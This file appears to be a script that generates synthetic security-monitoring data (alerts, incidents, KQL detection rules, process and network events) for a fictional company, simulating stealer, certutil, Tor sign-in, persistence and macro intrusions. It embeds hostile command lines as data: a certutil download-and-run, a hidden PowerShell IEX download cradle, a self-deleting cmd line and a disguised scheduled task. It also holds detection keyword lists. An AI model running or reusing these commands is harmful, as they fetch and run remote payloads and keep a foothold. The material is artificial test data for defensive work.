	| proc($h; at("01-13 14:02:10.556"); 8812; bin("msedge"); "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://outlook.office.com/mail/"; $a; $explorer) as $edge
	| stealer as $bin
	| file_of("C:\\Users\\tom.becker\\Downloads\\Invoice_2026-0113.zip"; 1811342; "lure") as $zip
	| proc($h; at("01-13 15:06:41.731204"); 9132; $bin; "\"\($bin.path)\" "; $a; $explorer) as $mal
	| proc($h; at("01-13 15:08:10.118"); 6460; bin("cmd"); "\"C:\\Windows\\System32\\cmd.exe\" /c timeout /t 5 & del /f /q \"\($bin.path)\""; $a; $mal) as $del
	| {id: uuid_of("alert:357327"), name: "TI map File Hash to DeviceFileEvents Event",
	   desc: "Identifies a match in DeviceFileEvents from any FileHash IOC from TI.",
	   severity: "Medium", kind: "scheduled", rule_id: uuid_of("rule:TI map File Hash to DeviceFileEvents Event"),
	   start: at("01-13 15:06:40.902"), end: at("01-13 15:06:40.902"), time: at("01-13 15:18:44.220"),
	   tactics: ["Impact"], techniques: [], subtechniques: [],
	   compromised: "ws-eng-022.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "ws-eng-022", DnsDomain: ad_domain, FQDN: "ws-eng-022.corp.contoso.com", Type: "host"},
	     {"$id": "3", Name: "tom.becker", NTDomain: "contoso", UPNSuffix: upn_domain, Sid: $a.sid, Type: "account"},
	     {"$id": "4", Directory: "C:\\Users\\tom.becker\\AppData\\Local\\Temp\\Temp1_Invoice_2026-0113.zip", Name: "Invoice_2026-0113.exe",
	      FileHashes: [{"$id": "5", Algorithm: "SHA256", Value: $bin.sha256, Type: "filehash"}], Type: "file"},
	     {"$ref": "5"}],
	   ext: scheduled_ext("357327"; "TI map File Hash to DeviceFileEvents Event";
	     "let dt_lookBack = 1h;\nlet ioc_lookBack = 14d;\nThreatIntelIndicators\n| where TimeGenerated >= ago(ioc_lookBack)\n| where ObservableKey startswith \"file:hashes\"\n| summarize arg_max(TimeGenerated, *) by Id\n| where IsActive and ValidUntil > now()\n| project IndicatorId = Id, FileHashValue = tolower(ObservableValue), Description = tostring(Data.description), Confidence\n| join kind=innerunique (DeviceFileEvents | where TimeGenerated >= ago(dt_lookBack) | extend FileHashValue = tolower(SHA256)) on FileHashValue";
	     "14.00:00:00"; 1; {DeviceName: ["ws-eng-022.corp.contoso.com"], FileName: ["Invoice_2026-0113.exe"], Description: ["Lumma Stealer payload delivered as invoice ZIP"]})} as $alert
	| {number: 357327, title: "TI map File Hash to DeviceFileEvents Event",
	   desc: $alert.desc, severity: "Medium", provider: "Azure Sentinel",
	   created: at("01-13 15:20:03.391"), first: $alert.start, last: $alert.end,
	   tactics: ["Impact"], techniques: [],
	   alerts: [$alert], rules: ["TI map File Hash to DeviceFileEvents Event"],
	   versions: [
	     {t: at("01-13 15:20:03.391"), status: "New", by: "Incident created from alert rule"},
	     {t: at("01-13 15:41:18.003"), status: "Active", owner: analyst("alex.rivera"), by: "alex.rivera@contoso.com"}]} as $inc
	| (dpe($edge),
	   dne($edge; at("01-13 15:05:02.330"); {rip: stealer_download_ip, rport: 443, rurl: "shareview-docs.com", lport: 61544}),
	   dfe($edge; at("01-13 15:05:04.871"); $zip; {origin_url: stealer_download,
	       referrer: "https://shareview-docs.com/d/", origin_ip: stealer_download_ip}),
	   dfe($explorer; at("01-13 15:06:40.902"); $bin | {name, path, sha1, sha256, md5, size};
	       {origin_url: stealer_download, referrer: "https://shareview-docs.com/d/", origin_ip: stealer_download_ip}),
	   dpe($mal),
	   dne($mal; at("01-13 15:06:43.412"); {rip: stealer_ip, rport: 443, rurl: stealer_domain, lport: 61590}),
	   dfe($mal; at("01-13 15:06:45.090"); file_of("C:\\Users\\tom.becker\\AppData\\Local\\Temp\\8c2e4b0f\\ld.db"; 49152; "copy"); {}),
	   dfe($mal; at("01-13 15:06:45.377"); file_of("C:\\Users\\tom.becker\\AppData\\Local\\Temp\\8c2e4b0f\\ck.db"; 229376; "copy"); {}),
	   dne($mal; at("01-13 15:06:51.006"); {rip: stealer_ip, rport: 443, rurl: stealer_domain, lport: 61593}),
	   dne($mal; at("01-13 15:07:30.551"); {rip: stealer_ip, rport: 443, rurl: stealer_domain, lport: 61602}),
	   dpe($del),
	   dpe(proc($h; at("01-13 15:08:10.160"); 6472; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; $a; $del)),
	   dfe($del; at("01-13 15:08:15.402"); $bin | {name, path, sha1, sha256, md5, size}; {action: "FileDeleted"}),
	   alert_row($alert; $alert.time; "New"),
	   alert_row($alert; at("01-13 15:41:18.540"); "InProgress"),
	   incident_rows($inc));

# --- 357328: certutil fetches a payload ------------------------------------

def inc_357328:
	host("ws-fin-014") as $h
	| corp_acct("dana.whitfield") as $a
	| explorer_proc($h; at("01-13 13:48:09.310"); $a; 4488) as $explorer
	| proc($h; at("01-13 19:24:51.020"); 7736; bin("msedge"); "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://outlook.office.com/mail/"; $a; $explorer) as $edge
	| file_of("C:\\Users\\dana.whitfield\\Downloads\\Q4_Statement.zip"; 2086; "lure") as $zip
	| file_of("C:\\Users\\dana.whitfield\\Downloads\\Q4_Statement\\Q4_Statement.pdf.lnk"; 2405; "lure") as $lnk
	| "\"C:\\Windows\\System32\\cmd.exe\" /c certutil.exe -urlcache -split -f http://filedrop-cdn.xyz/q4/statement.pdf C:\\Users\\Public\\Documents\\statement.exe && start \"\" C:\\Users\\Public\\Documents\\statement.exe" as $cmdline
	| proc($h; at("01-13 19:31:07.618"); 2140; bin("cmd"); $cmdline; $a; $explorer) as $cmd
	| proc($h; at("01-13 19:31:07.702"); 2156; bin("certutil"); "certutil.exe  -urlcache -split -f http://filedrop-cdn.xyz/q4/statement.pdf C:\\Users\\Public\\Documents\\statement.exe"; $a; $cmd) as $cu
	| synth("C:\\Users\\Public\\Documents\\statement.exe"; ""; ""; ""; ""; ""; 287744; "Unknown"; "Unsigned") as $payload
	| proc($h; at("01-13 19:31:09.994"); 6704; $payload; "C:\\Users\\Public\\Documents\\statement.exe  "; $a; $cmd) as $run
	| proc($h; at("01-13 19:33:12.480"); 6900; bin("cmd"); "C:\\Windows\\system32\\cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:corp.contoso.com"; $a; $run) as $disc
	| {id: uuid_of("alert:357328"), name: "Certutil remote download (LOLBin)",
	   desc: "certutil.exe was used to download a file from a URL (-urlcache -f or -verifyctl). Attackers use the signed Windows binary to bring tools onto a host.",
	   severity: "High", kind: "scheduled", rule_id: uuid_of("rule:Certutil remote download (LOLBin)"),
	   start: $cu.t, end: $cu.t, time: at("01-13 19:46:31.228"),
	   tactics: ["CommandAndControl", "DefenseEvasion"], techniques: ["T1105"], subtechniques: [],
	   compromised: "ws-fin-014.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "ws-fin-014", DnsDomain: ad_domain, FQDN: "ws-fin-014.corp.contoso.com", Type: "host"},
	     {"$id": "3", Name: "dana.whitfield", NTDomain: "contoso", UPNSuffix: upn_domain, Sid: $a.sid, Type: "account"},
	     {"$id": "4", ProcessId: "2156", CommandLine: $cu.cmd, CreationTimeUtc: ($cu.t | ts),
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32", Name: "certutil.exe", Type: "file"},
	      ParentProcess: {"$id": "6", ProcessId: "2140", CommandLine: $cmdline,
	          ImageFile: {"$id": "7", Directory: "C:\\Windows\\System32", Name: "cmd.exe", Type: "file"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$id": "8", Url: "http://filedrop-cdn.xyz/q4/statement.pdf", Type: "url"},
	     {"$id": "9", DomainName: certutil_domain, Type: "dns"}],
	   ext: scheduled_ext("357328"; "Certutil remote download (LOLBin)";
	     "DeviceProcessEvents\n| where TimeGenerated > ago(1h)\n| where FileName =~ \"certutil.exe\" or ProcessVersionInfoOriginalFileName =~ \"CertUtil.exe\"\n| where ProcessCommandLine has_any (\"urlcache\", \"verifyctl\") and ProcessCommandLine has \"http\"\n| extend Url = extract(@\"(https?://\\S+)\", 1, ProcessCommandLine)";
	     "01:00:00"; 1; {DeviceName: ["ws-fin-014.corp.contoso.com"], Url: ["http://filedrop-cdn.xyz/q4/statement.pdf"]})} as $alert
	| {number: 357328, title: "Certutil remote download (LOLBin)",
	   desc: $alert.desc, severity: "High", provider: "Azure Sentinel",
	   created: at("01-13 19:48:02.915"), first: $cu.t, last: $cu.t,
	   tactics: ["CommandAndControl", "DefenseEvasion"], techniques: ["T1105"],
	   alerts: [$alert], rules: ["Certutil remote download (LOLBin)"],
	   versions: [{t: at("01-13 19:48:02.915"), status: "New", by: "Incident created from alert rule"}]} as $inc
	| (dpe($edge),
	   dne($edge; at("01-13 19:29:40.005"); {rip: certutil_ip, rport: 443, rurl: certutil_domain, lport: 58810}),
	   dfe($edge; at("01-13 19:29:41.662"); $zip; {origin_url: "https://filedrop-cdn.xyz/q4/Q4_Statement.zip",
	       referrer: "https://outlook.office.com/", origin_ip: certutil_ip}),
	   dfe($explorer; at("01-13 19:30:58.117"); $lnk; {origin_url: "https://filedrop-cdn.xyz/q4/Q4_Statement.zip", origin_ip: certutil_ip}),
	   dpe($cmd),
	   dpe(proc($h; at("01-13 19:31:07.650"); 2148; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; $a; $cmd)),
	   dpe($cu),
	   dne($cu; at("01-13 19:31:08.133"); {rip: certutil_ip, rport: 80, rurl: certutil_domain, lport: 58833}),
	   dfe($cu; at("01-13 19:31:09.470"); file_of("C:\\Users\\dana.whitfield\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\9B2F1E6A0C3D4B5E7F8091A2B3C4D5E6"; 287744; "cache"); {}),
	   dfe($cu; at("01-13 19:31:09.512"); $payload | {name, path, sha1, sha256, md5, size}; {}),
	   dpe($run),
	   dne($run; at("01-13 19:31:12.840"); {rip: certutil_ip, rport: 443, rurl: certutil_domain, lport: 58840}),
	   dne($run; at("01-13 19:32:14.126"); {rip: certutil_ip, rport: 443, rurl: certutil_domain, lport: 58846}),
	   dne($run; at("01-13 19:33:15.907"); {rip: certutil_ip, rport: 443, rurl: certutil_domain, lport: 58855}),
	   dpe($disc),
	   dpe(proc($h; at("01-13 19:33:12.540"); 6912; bin("whoami"); "whoami  /all"; $a; $disc)),
	   dpe(proc($h; at("01-13 19:33:13.020"); 6936; bin("net"); "net  group \"Domain Admins\" /domain"; $a; $disc)),
	   dpe(proc($h; at("01-13 19:33:14.402"); 6968; bin("nltest"); "nltest  /dclist:corp.contoso.com"; $a; $disc)),
	   dne($run; at("01-13 19:34:16.338"); {rip: certutil_ip, rport: 443, rurl: certutil_domain, lport: 58861}),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357329: a sign-in through a Tor exit (adversary in the middle) ---------

def tor_place: {city: "", state: "", country: "DE", lat: 51.2993, lon: 9.491, asn: null};

def inc_357329:
	corp_acct("hannah.kim") as $a
	| at("01-13 21:14:52.660") as $t
	| {id: uuid_of("alert:357329"), name: "TI map IP entity to SigninLogs",
	   desc: "Identifies a match in SigninLogs from any IP IOC from TI.",
	   severity: "Medium", kind: "scheduled", rule_id: uuid_of("rule:TI map IP entity to SigninLogs"),
	   start: $t, end: ($t + 1195000000), time: at("01-13 21:36:40.013"),
	   tactics: ["Impact"], techniques: [], subtechniques: [],
	   compromised: "hannah.kim@contoso.com",
	   entities: [
	     {"$id": "2", Name: "hannah.kim", UPNSuffix: upn_domain, AadUserId: $a.object_id, Type: "account"},
	     {"$id": "3", Address: tor_exit, Location: {CountryCode: "DE"}, Type: "ip"}],
	   ext: scheduled_ext("357329"; "TI map IP entity to SigninLogs";
	     "let dt_lookBack = 1h;\nlet ioc_lookBack = 14d;\nThreatIntelIndicators\n| where TimeGenerated >= ago(ioc_lookBack)\n| where ObservableKey == \"ipv4-addr:value\"\n| summarize arg_max(TimeGenerated, *) by Id\n| where IsActive and ValidUntil > now()\n| project IndicatorId = Id, TI_IP = ObservableValue, Description = tostring(Data.description), Confidence\n| join kind=innerunique (SigninLogs | where TimeGenerated >= ago(dt_lookBack)) on $left.TI_IP == $right.IPAddress";
	     "14.00:00:00"; 4; {UserPrincipalName: ["hannah.kim@contoso.com"], IPAddress: [tor_exit], Description: ["Tor exit relay"]})} as $alert
	| {number: 357329, title: "TI map IP entity to SigninLogs",
	   desc: $alert.desc, severity: "Medium", provider: "Azure Sentinel",
	   created: at("01-13 21:38:19.480"), first: $t, last: ($t + 1195000000),
	   tactics: ["Impact"], techniques: [],
	   alerts: [$alert], rules: ["TI map IP entity to SigninLogs"],
	   versions: [{t: at("01-13 21:38:19.480"), status: "New", by: "Incident created from alert rule"}]} as $inc
	| ({risk: {during: "medium", aggregated: "medium", state: "atRisk", detail: "none", events: ["anonymizedIPAddress"]}}) as $r
	| (signin({t: $t, user: $a, app: apps.office_home, resource: resources.graph, ip: tor_exit, place: tor_place,
	      ua: ua.edge, auth: "multi", device: {os: "Windows10", browser: "Edge 131.0.0"},
	      mfa: {authMethod: "Mobile app notification", authDetail: "MFA completed in Azure AD"},
	      auth_details: [
	        {authenticationStepDateTime: ($t | ts0), authenticationMethod: "Password", succeeded: true,
	         authenticationStepResultDetail: "Correct password", authenticationStepRequirement: "Primary authentication"},
	        {authenticationStepDateTime: ($t + 21000000 | ts0), authenticationMethod: "Mobile app notification", succeeded: true,
	         authenticationStepResultDetail: "MFA successfully completed", authenticationStepRequirement: "Multifactor authentication",
	         authenticationMethodDetail: "Number match"}],
	      risk: $r.risk}),
	   signin({t: ($t + 64000000), user: $a, app: apps.exo, resource: resources.exo, ip: tor_exit, place: tor_place,
	      ua: ua.edge, auth: "multi", device: {os: "Windows10", browser: "Edge 131.0.0"},
	      mfa: {authMethod: "Previously satisfied", authDetail: null}, risk: $r.risk}),
	   signin({t: ($t + 422000000), user: $a, app: apps.my_signins, resource: resources.aad, ip: tor_exit, place: tor_place,
	      ua: ua.edge, auth: "multi", device: {os: "Windows10", browser: "Edge 131.0.0"},
	      mfa: {authMethod: "Previously satisfied", authDetail: null}, risk: $r.risk}),
	   audit({t: ($t + 489000000), op: "User registered security info", category: "UserManagement",
	      service: "Authentication Methods", by: audit_user($a; tor_exit), targets: [audit_target_user($a)],
	      identity: "Hannah Kim", optype: "Add", reason: "User registered Microsoft Authenticator App with Notification and Code",
	      details: [{key: "Device name", value: "Pixel 7"}, {key: "Method", value: "Microsoft Authenticator"}]}),
	   signin({t: ($t + 1195000000), user: $a, app: apps.exo, resource: resources.exo, ip: tor_exit, place: tor_place,
	      ua: ua.edge, auth: "multi", device: {os: "Windows10", browser: "Edge 131.0.0"},
	      mfa: {authMethod: "Previously satisfied", authDetail: null}, risk: $r.risk}),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357330: a scheduled task that runs an unknown binary and beacons ------

def fake_setup: synth("C:\\Users\\liam.murphy\\Downloads\\PDFConverterSetup.exe"; "PDF Convert Pro";
	"PDF Convert Pro"; "3.2.1.0"; "PDF Convert Pro Setup"; "PDFConverterSetup.exe"; 6230016; "Unknown"; "Unsigned");
def beacon_bin: synth("C:\\Users\\Public\\Libraries\\edgeupd.exe"; "Microsoft Corporation";
	"Microsoft Edge Update"; "1.3.195.31"; "Microsoft Edge Update"; "MicrosoftEdgeUpdate.exe"; 412160; "Unknown"; "Unsigned");
def beacon_task_cmd: "schtasks.exe /create /tn \"MicrosoftEdgeUpdateTaskMachineUA2\" /tr \"C:\\Users\\Public\\Libraries\\edgeupd.exe\" /sc minute /mo 30 /f";

# The task's runs: every 30 minutes from 13:17 on 01-14 until "now", each a
# few seconds late.  The 09:04 run on 01-15 is also the RDP tunnel of
# incident 357333.
def beacon_runs: [range(0; 46) | {i: ., t: (at("01-14 13:17:02.000") + . * 30 * mins + int_of("beacon:\(.)"; 4000000))}];

def inc_357330:
	host("ws-hr-011") as $h
	| corp_acct("liam.murphy") as $a
	| explorer_proc($h; at("01-14 12:51:30.774"); $a; 6016) as $explorer
	| proc($h; at("01-14 12:58:12.306"); 9240; bin("chrome"); "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "; $a; $explorer) as $chrome
	| proc($h; at("01-14 13:02:44.019"); 3372; fake_setup; "\"C:\\Users\\liam.murphy\\Downloads\\PDFConverterSetup.exe\" "; $a; $explorer) as $setup
	| proc($h; at("01-14 13:02:51.880"); 3520; bin("schtasks"); beacon_task_cmd; $a; $setup) as $task
	| schedule_proc($h) as $sched
	| beacon_bin as $bb
	| {id: uuid_of("alert:357330"), name: "Suspicious Task Scheduler activity",
	   desc: "A process created a scheduled task that runs a binary from a user-writable public folder under a name that imitates a Microsoft Edge update task. Attackers use scheduled tasks to keep a foothold.",
	   severity: "Medium", kind: "mde", alert_type: "WindowsDefenderAtp",
	   vendor_id: "da638724\(int_of("mde:357330"; 100000000))_-1483201967",
	   link: "https://security.microsoft.com/alerts/da638724\(int_of("mde:357330"; 100000000))_-1483201967",
	   start: $task.t, end: $task.t, time: at("01-14 13:21:30.446"),
	   tactics: ["Persistence"], techniques: ["T1053"], subtechniques: ["T1053.005"],
	   compromised: "ws-hr-011.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "ws-hr-011", DnsDomain: ad_domain, NetBiosName: "ws-hr-011", OSFamily: "Windows", OSVersion: "22H2",
	      MdatpDeviceId: device_id($h), FQDN: "ws-hr-011.corp.contoso.com", RiskScore: "Medium", HealthStatus: "Active", Type: "host"},
	     {"$id": "3", Name: "liam.murphy", NTDomain: "CONTOSO", UPNSuffix: upn_domain, Sid: $a.sid, AadUserId: $a.object_id, IsDomainJoined: true, Type: "account"},
	     {"$id": "4", ProcessId: "3520", CommandLine: beacon_task_cmd, CreationTimeUtc: ($task.t | ts),
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32", Name: "schtasks.exe",
	          FileHashes: [{"$id": "6", Algorithm: "SHA1", Value: bin("schtasks").sha1, Type: "filehash"},
	                       {"$id": "7", Algorithm: "SHA256", Value: bin("schtasks").sha256, Type: "filehash"}], Type: "file"},
	      ParentProcess: {"$id": "8", ProcessId: "3372", CommandLine: $setup.cmd, CreationTimeUtc: ($setup.t | ts),
	          ImageFile: {"$id": "9", Directory: "C:\\Users\\liam.murphy\\Downloads", Name: "PDFConverterSetup.exe",
	              FileHashes: [{"$id": "10", Algorithm: "SHA256", Value: fake_setup.sha256, Type: "filehash"}], Type: "file"},
	          Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$ref": "5"}, {"$ref": "8"}, {"$ref": "9"},
	     {"$id": "11", Directory: "C:\\Users\\Public\\Libraries", Name: "edgeupd.exe",
	      FileHashes: [{"$id": "12", Algorithm: "SHA256", Value: $bb.sha256, Type: "filehash"}], Type: "file"}],
	   ext: {"MicrosoftDefenderAtpCategory": "Persistence", "DetectionSource": "EDR",
	     "DetectorId": "a8c1e4f2-51b0-4d7e-9e31-6f2c0d8b7a45"},
	   remediation: ["Review the scheduled task MicrosoftEdgeUpdateTaskMachineUA2 and the binary it runs.",
	     "If the binary is not known, isolate the device and investigate its network activity."]} as $alert
	| {number: 357330, title: "Suspicious Task Scheduler activity on one endpoint",
	   desc: "", severity: "Medium", provider: "Microsoft XDR", provider_id: "41966",
	   created: at("01-14 13:25:48.902"), first: $task.t, last: $task.t,
	   tactics: ["Persistence"], techniques: ["T1053.005"],
	   alerts: [$alert], rules: [],
	   versions: [{t: at("01-14 13:25:48.902"), status: "New", by: "Microsoft XDR"}]} as $inc
	| (dpe($chrome),
	   dne($chrome; at("01-14 13:01:57.410"); {rip: "172.67.181.43", rport: 443, rurl: "pdf-convertpro.net", lport: 63012}),
	   dfe($chrome; at("01-14 13:02:31.225"); fake_setup | {name, path, sha1, sha256, md5, size};
	       {origin_url: "https://pdf-convertpro.net/download/PDFConverterSetup.exe",
	        referrer: "https://pdf-convertpro.net/", origin_ip: "172.67.181.43"}),
	   dpe($setup),
	   dfe($setup; at("01-14 13:02:50.611"); $bb | {name, path, sha1, sha256, md5, size}; {}),
	   dfe($setup; at("01-14 13:02:50.902"); file_of("C:\\Users\\liam.murphy\\AppData\\Local\\PDF Convert Pro\\PDFConvertPro.exe"; 5120512; "3.2.1"); {}),
	   dpe($task),
	   dfe(proc($h; $task.t; 1544; bin("svchost"); "svchost.exe -k netsvcs -p -s Schedule"; system_acct; services_proc($h));
	       at("01-14 13:02:52.004"); file_of("C:\\Windows\\System32\\Tasks\\MicrosoftEdgeUpdateTaskMachineUA2"; 3262; "task"); {}),
	   (beacon_runs[]
	    | . as $r
	    | proc($h; $r.t; 4000 + int_of("beaconpid:\($r.i)"; 5000) * 4; $bb; "C:\\Users\\Public\\Libraries\\edgeupd.exe"; $a; $sched) as $p
	    | dpe($p),
	      dne($p; $r.t + 1200000 + int_of("bt:\($r.i)"; 800000); {rip: beacon_ip, rport: 443, rurl: beacon_domain,
	          lport: (50000 + int_of("bp:\($r.i)"; 15000))}),
	      (if $r.i == 39 then
	        dne($p; at("01-15 09:04:51.337"); {rip: "10.20.0.33", rport: 3389, lport: 51207})
	       else empty end)),
	   alert_row($alert; $alert.time; "New"),
	   incident_rows($inc));

# --- 357331: a PowerShell download cradle from a Word document --------------

def inc_357331:
	host("ws-hr-007") as $h
	| corp_acct("maria.santos") as $a
	| explorer_proc($h; at("01-14 13:36:18.226"); $a; 5580) as $explorer
	| proc($h; at("01-14 13:37:02.415"); 7024; bin("outlook"); "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "; $a; $explorer) as $outlook
	| "C:\\Users\\maria.santos\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M4ZP\\Resume_J_Doyle.docm" as $doc
	| proc($h; at("01-14 14:31:20.880"); 8156; bin("winword"); "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"\($doc)\" /o \"\""; $a; $outlook) as $word
	| "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://45.151.167.10/a.ps1')\"" as $cradle
	| proc($h; at("01-14 14:31:26.307511"); 8420; bin("powershell"); $cradle; $a; $word) as $ps
	| file_of("C:\\Users\\maria.santos\\AppData\\Local\\Temp\\upd.dll"; 331776; "stage2") as $dll
	| proc($h; at("01-14 14:31:31.902"); 8604; bin("rundll32"); "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Users\\maria.santos\\AppData\\Local\\Temp\\upd.dll,DllRegisterServer"; $a; $ps) as $rd
	| {id: uuid_of("alert:357331a"), name: "PowerShell download cradle from Office application",
	   desc: "An Office application started PowerShell with a command line that downloads and runs code from the internet (DownloadString, DownloadFile, IEX, Invoke-WebRequest). Typical of malicious macros.",
	   severity: "High", kind: "scheduled", rule_id: uuid_of("rule:PowerShell download cradle from Office application"),
	   start: $ps.t, end: $ps.t, time: at("01-14 14:39:12.561"),
	   tactics: ["Execution", "InitialAccess"], techniques: ["T1059", "T1566"], subtechniques: ["T1059.001", "T1566.001"],
	   compromised: "ws-hr-007.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "ws-hr-007", DnsDomain: ad_domain, FQDN: "ws-hr-007.corp.contoso.com", Type: "host"},
	     {"$id": "3", Name: "maria.santos", NTDomain: "contoso", UPNSuffix: upn_domain, Sid: $a.sid, Type: "account"},
	     {"$id": "4", ProcessId: "8420", CommandLine: $cradle, CreationTimeUtc: ($ps.t | ts),
	      ImageFile: {"$id": "5", Directory: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", Name: "powershell.exe", Type: "file"},
	      ParentProcess: {"$id": "6", ProcessId: "8156", CommandLine: $word.cmd,
	          ImageFile: {"$id": "7", Directory: "C:\\Program Files\\Microsoft Office\\root\\Office16", Name: "WINWORD.EXE", Type: "file"}, Type: "process"},
	      Account: {"$ref": "3"}, Host: {"$ref": "2"}, Type: "process"},
	     {"$id": "8", Address: cradle_ip, Type: "ip"},
	     {"$id": "9", Url: "http://45.151.167.10/a.ps1", Type: "url"}],
	   ext: scheduled_ext("357331a"; "PowerShell download cradle from Office application";
	     "DeviceProcessEvents\n| where TimeGenerated > ago(1h)\n| where InitiatingProcessFileName in~ (\"winword.exe\", \"excel.exe\", \"powerpnt.exe\", \"outlook.exe\")\n| where FileName in~ (\"powershell.exe\", \"pwsh.exe\")\n| where ProcessCommandLine has_any (\"DownloadString\", \"DownloadFile\", \"IEX\", \"Invoke-Expression\", \"Invoke-WebRequest\", \"iwr\")";
	     "01:00:00"; 1; {DeviceName: ["ws-hr-007.corp.contoso.com"], ParentProcess: ["WINWORD.EXE"]})} as $a1
	| {id: uuid_of("alert:357331b"), name: "TI map IP entity to DeviceNetworkEvents",
	   desc: "Identifies a match in DeviceNetworkEvents from any IP IOC from TI.",
	   severity: "Medium", kind: "scheduled", rule_id: uuid_of("rule:TI map IP entity to DeviceNetworkEvents"),
	   start: at("01-14 14:31:27.118"), end: at("01-14 14:31:27.118"), time: at("01-14 14:40:05.702"),
	   tactics: ["Impact"], techniques: [], subtechniques: [],
	   compromised: "ws-hr-007.corp.contoso.com",
	   entities: [
	     {"$id": "2", HostName: "ws-hr-007", DnsDomain: ad_domain, FQDN: "ws-hr-007.corp.contoso.com", Type: "host"},
	     {"$id": "3", Address: cradle_ip, Type: "ip"}],
	   ext: scheduled_ext("357331b"; "TI map IP entity to DeviceNetworkEvents";
	     "let dt_lookBack = 1h;\nThreatIntelIndicators\n| where ObservableKey == \"ipv4-addr:value\"\n| summarize arg_max(TimeGenerated, *) by Id\n| where IsActive and ValidUntil > now()\n| join kind=innerunique (DeviceNetworkEvents | where TimeGenerated >= ago(dt_lookBack)) on $left.ObservableValue == $right.RemoteIP";
	     "14.00:00:00"; 1; {DeviceName: ["ws-hr-007.corp.contoso.com"], RemoteIP: [cradle_ip]})} as $a2
	| {number: 357331, title: "PowerShell download cradle from Office application",
	   desc: $a1.desc, severity: "High", provider: "Azure Sentinel",
	   created: at("01-14 14:41:00.337"), first: $ps.t, last: at("01-14 14:31:27.118"),
	   tactics: ["Execution", "InitialAccess", "Impact"], techniques: ["T1059", "T1566"],
	   alerts: [$a1, $a2], rules: ["PowerShell download cradle from Office application", "TI map IP entity to DeviceNetworkEvents"],
	   versions: [
	     {t: at("01-14 14:41:00.337"), status: "New", by: "Incident created from alert rule"},
	     {t: at("01-14 14:41:02.118"), status: "New", by: "Alert added to incident"},
	     {t: at("01-14 14:58:40.902"), status: "Active", owner: analyst("alex.rivera"), by: "alex.rivera@contoso.com"}]} as $inc
	| (dpe($outlook),
	   dne($outlook; at("01-14 13:37:04.551"); {rip: "52.96.111.82", rport: 443, rurl: "outlook.office365.com", lport: 55021}),
	   dfe($outlook; at("01-14 14:31:18.440"); file_of($doc; 48213; "lure"); {}),
	   dpe($word),
	   dpe($ps),
	   dne($ps; at("01-14 14:31:27.118"); {rip: cradle_ip, rport: 80, lport: 55388}),
	   dfe($ps; at("01-14 14:31:30.672"); $dll; {}),
	   dpe($rd),
	   ([range(0; 24)] | .[] as $i
	    | dne($rd; at("01-14 14:31:34.000") + $i * 60 * sec + int_of("cradle:\($i)"; 9000000);
	        {rip: cradle_c2, rport: 443, lport: (55400 + $i * 3)})),
	   alert_row($a1; $a1.time; "New"),
	   alert_row($a2; $a2.time; "New"),
	   alert_row($a1; at("01-14 14:58:41.200"); "InProgress"),
	   incident_rows($inc));

# --- 357332: the inventory script a new rule noticed ------------------------
#
# Every night at 02:15 Eastern a GPO scheduled task runs IT's inventory
# script on every server as svc-inventory.  It has done so all week; a rule
# enabled on 01-14 sees it for the first time.

def inventory_cmd: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -NonInteractive -ExecutionPolicy Bypass -File \"C:\\Program Files\\Contoso\\Inventory\\Get-ContosoInventory.ps1\" -Upload \\\\srv-fs-01\\inventory$";

# One night's run on one server: rows.
def inventory_run($h; $t):
	schedule_proc($h) as $sched
	| proc($h; $t; 2000 + int_of("invpid:\($h.short):\($t)"; 3000) * 4; bin("powershell"); inventory_cmd; svc_inventory; $sched) as $ps
	| dpe($ps),
	  dpe(proc($h; $t + 31000; $ps.pid + 12; bin("conhost"); "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"; svc_inventory; $ps)),
	  dfe($ps; $t + 19400000 + int_of("invf:\($h.short):\($t)"; 9000000);
	      file_of("C:\\ProgramData\\Contoso\\Inventory\\\($h.short)-inventory.json"; 180000 + int_of("invsz:\($h.short):\($t)"; 40000); "\($t)");
	      {action: "FileModified"}),
	  dne($ps; $t + 24100000 + int_of("invn:\($h.short):\($t)"; 9000000);
	      {rip: "10.20.0.21", rport: 445, lport: (49700 + int_of("invp:\($h.short):\($t)"; 9000))});

# When the run starts on each server, on the day d days before the anchor.
def inventory_time($short; $d): anchor - $d * days - 12 * hours + 7 * hours + 15 * mins + 2 * sec
	+ int_of("invt:\($short):\($d)"; 40000000);

def inc_357332:
	[servers[] | {h: ., t: inventory_time(.short; 0)}] as $runs
	| ($runs | map(.t) | min) as $first
	| ($runs | map(.t) | max) as $last
	| {id: uuid_of("alert:357332"), name: "PowerShell execution policy bypass by non-interactive account",
	   desc: "PowerShell started with -ExecutionPolicy Bypass by a service or batch logon. Rule enabled 2026-01-14 after the purple-team exercise; expected to need tuning.",
	   severity: "Low", kind: "scheduled", rule_id: uuid_of("rule:PowerShell execution policy bypass by non-interactive account"),
